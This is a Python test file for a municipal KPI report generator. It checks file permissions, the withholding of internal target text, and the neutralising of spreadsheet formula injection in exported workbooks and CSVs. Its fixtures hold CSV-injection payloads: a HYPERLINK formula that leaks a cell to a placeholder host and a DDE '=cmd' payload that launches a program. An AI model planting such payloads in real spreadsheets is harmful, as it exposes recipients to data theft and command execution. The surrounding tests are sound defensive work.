"""Files the tool writes for people: readable by colleagues, and never carrying a live formula.

Reports and workbooks are shared (0644 under umask 022, not mkstemp's 0600); user
text reaches a workbook as a text cell and the report CSV with a leading `'` when
a spreadsheet would run it; an internal target_text reaches the department
workbook only with `--include-internal`, and then with its ［庁内限定］ marker.
"""

from __future__ import annotations

import csv
import io
import multiprocessing
import os
import stat
from pathlib import Path

import pytest
from kpi_plan_fixture import make_plan, run_dataplan
from openpyxl import load_workbook
from typer.testing import CliRunner

from generator.cli import app
from generator.kpi.store import ActualRow, read_actuals, write_actuals

HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"詳細")'
DIGITAL = "総務部デジタル推進課"


@pytest.fixture
def root(tmp_path):
    root = make_plan(tmp_path / "city")
    write_actuals(
        root,
        [
            ActualRow("k-1-01-1", "2025Q2", "30", HYPERLINK, "=cmd|' /C calc'!A0", "2025-10-01"),
            ActualRow("k-1-01-3", "2025Q2", "実施中", "+1 と書いた", "@総務", "2025-10-01"),
        ],
    )
    return root


def _run_under_umask_022(*args: str, cwd: Path) -> int | None:
    """The CLI in a forked child whose umask is 022 (the test process's umask is not touched)."""

    def child() -> None:
        os.umask(0o022)
        os.chdir(cwd)
        os.environ["DATAPLAN_TODAY"] = "2025-10-10"
        os._exit(CliRunner().invoke(app, list(args)).exit_code)

    process = multiprocessing.get_context("fork").Process(target=child)
    process.start()
    process.join(120)  # only bounds a hang
    if process.exitcode is None:
        process.kill()
        process.join()
    return process.exitcode


def test_report_and_template_are_world_readable_under_umask_022(root):
    assert _run_under_umask_022("kpi", "template", "2025Q2", "-o", "kpi.xlsx", cwd=root) == 0
    assert _run_under_umask_022("report", "2025Q2", cwd=root) == 0
    written = [root / "kpi.xlsx", *sorted((root / "reports").iterdir())]
    assert len(written) == 3
    for path in written:
        assert stat.S_IMODE(path.stat().st_mode) == 0o644, path


def test_an_existing_file_keeps_its_mode(root, monkeypatch):
    output = root / "kpi.xlsx"
    output.write_bytes(b"")
    output.chmod(0o640)
    result = run_dataplan(monkeypatch, "kpi", "template", "2025Q2", "-o", output, "--path", root)
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(output.stat().st_mode) == 0o640


def test_user_text_in_the_workbook_is_a_text_cell_never_a_formula(root, monkeypatch):
    output = root / "kpi.xlsx"
    result = run_dataplan(monkeypatch, "kpi", "template", "2025Q2", "-o", output, "--path", root)
    assert result.exit_code == 0, result.output
    sheet = load_workbook(output)[DIGITAL]  # formulas as written, not cached values
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value}
    for text in (HYPERLINK, "=cmd|' /C calc'!A0", "+1 と書いた", "@総務"):
        assert cells[text].data_type == "s", text
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_the_report_csv_neutralises_formula_text_and_keeps_numbers(root, monkeypatch):
    result = run_dataplan(monkeypatch, "report", "2025Q2", "--internal", "--path", root)
    assert result.exit_code == 0, result.output
    text = (root / "reports" / "report-2025Q2-internal.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    notes = {row["KPI ID"]: row["実績の説明"] for row in rows}
    assert notes["k-1-01-1"] == "'" + HYPERLINK
    assert notes["k-1-01-3"] == "'+1 と書いた"
    assert {row["KPI ID"]: row["実績"] for row in rows}["k-1-01-1"] == "30"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    # The store keeps what was typed.
    assert HYPERLINK in [row.note for row in read_actuals(root)[0]]


def _with_internal_target(root: Path) -> None:
    measure = root / "measures" / "m-1-01.yaml"
    text = measure.read_text(encoding="utf-8")
    text = text.replace(
        "    targets:\n      - {when: 2027, value: 5000}\n      - {when: 2029, value: 10000}\n",
        "    target_text:\n      text: 庁内で調整中の件数目標\n      visibility: internal\n",
    )
    measure.write_text(text, encoding="utf-8")


def test_an_internal_target_text_stays_out_of_the_workbook_by_default(root, monkeypatch):
    _with_internal_target(root)
    output = root / "kpi.xlsx"
    result = run_dataplan(monkeypatch, "kpi", "template", "2025Q2", "-o", output, "--path", root)
    assert result.exit_code == 0, result.output
    workbook = load_workbook(output)
    every_text = [
        str(cell.value) for sheet in workbook for row in sheet.iter_rows() for cell in row
    ]
    assert not [text for text in every_text if "庁内で調整中" in text]

    result = run_dataplan(
        monkeypatch,
        "kpi",
        "template",
        "2025Q2",
        "-o",
        output,
        "--include-internal",
        "--path",
        root,
    )
    assert result.exit_code == 0, result.output
    sheet = load_workbook(output)[DIGITAL]
    targets = {sheet.cell(row, 1).value: sheet.cell(row, 6).value for row in range(5, 8)}
    assert targets["k-1-01-2"] == "［庁内限定］庁内で調整中の件数目標"
